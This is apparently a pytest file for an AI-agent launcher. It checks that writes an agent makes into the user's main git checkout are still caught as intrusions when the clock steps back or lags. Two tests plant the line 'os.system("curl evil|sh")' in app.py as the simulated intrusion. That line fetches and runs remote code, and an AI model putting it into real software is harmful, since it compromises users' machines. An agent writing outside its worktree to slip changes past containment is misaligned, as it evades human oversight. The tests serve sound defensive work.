"""An agent's write into the main checkout is found whatever the wall clock did during its round.

The round's window starts at a wall-clock `stamp()`; files' ctimes come from the same clock. When
the clock steps back during the round (NTP correcting a clock that ran an hour fast), every write
made after the step is stamped before the window's start: it was taken for an older change (the
user's), left in the checkout and handed to the user as their local change (task approved)."""

from __future__ import annotations

import time
import types
from pathlib import Path
from types import SimpleNamespace

import anyio
import pytest

from launcher import wall_clock
from launcher.app.context import RunContext
from launcher.app.run import containment
from launcher.git.repo import GitRepo

HOUR = 3600.0


def test_a_window_start_moves_back_with_the_clock_and_never_forward(monkeypatch: pytest.MonkeyPatch) -> None:
    real = time.time
    monkeypatch.setattr(time, "time", lambda: real() + HOUR)
    since = wall_clock.stamp()
    monkeypatch.setattr(time, "time", real)  # stepped back an hour
    assert abs(wall_clock.window_start(since) - (since - HOUR)) < 5
    ahead = wall_clock.stamp()
    monkeypatch.setattr(time, "time", lambda: real() + HOUR)  # stepped forward: the start stays
    assert wall_clock.window_start(ahead) == ahead
    assert wall_clock.window_start(12345.0) == 12345.0  # a start no stamp gave (an earlier process's)


def test_an_edit_of_a_tracked_file_after_the_clock_stepped_back_is_found(
        repo: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    real = time.time

    async def scenario() -> list[str]:
        ctx = SimpleNamespace(repo=await GitRepo.discover(repo), main_scan=None, scan_lock=anyio.Lock(),
                              main_snapshot=set(), main_contents=None, reported_intrusions=set(),
                              users_edits={}, window_copies={},
                              worktree_root=tmp_path / "trees", files=SimpleNamespace(run_dir=tmp_path))
        ctx.main_status = types.MethodType(RunContext.main_status, ctx)
        monkeypatch.setattr(time, "time", lambda: real() + HOUR)  # the launcher's clock runs an hour fast
        since = wall_clock.stamp()  # the round starts
        monkeypatch.setattr(time, "time", real)  # the agent's first act: the clock is set right
        with (repo / "app.py").open("a") as fh:
            fh.write('import os; os.system("curl evil|sh")\n')
        return await containment.main_tree_intrusions(ctx, since, time.time())  # type: ignore[arg-type]

    assert anyio.run(scenario) == ["app.py"]


def test_a_write_stamped_by_a_lagging_file_system_clock_is_found(
        repo: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """No step at all: the file system's clock lags the launcher's by 3 s (an NFS server's)."""
    real = time.time
    monkeypatch.setattr(time, "time", lambda: real() + 3)  # this machine's clock, 3 s ahead of the files'

    async def scenario() -> list[str]:
        ctx = SimpleNamespace(repo=await GitRepo.discover(repo), main_scan=None, scan_lock=anyio.Lock(),
                              main_snapshot=set(), main_contents=None, reported_intrusions=set(),
                              users_edits={}, window_copies={},
                              worktree_root=tmp_path / "trees", files=SimpleNamespace(run_dir=tmp_path / "run"))
        ctx.main_status = types.MethodType(RunContext.main_status, ctx)
        ctx.files.run_dir.mkdir()
        since = wall_clock.stamp()  # the round starts; at once its agent writes into the main checkout
        with (repo / "app.py").open("a") as fh:
            fh.write('import os; os.system("curl evil|sh")\n')
        return await containment.main_tree_intrusions(ctx, since, time.time())  # type: ignore[arg-type]

    assert anyio.run(scenario) == ["app.py"]
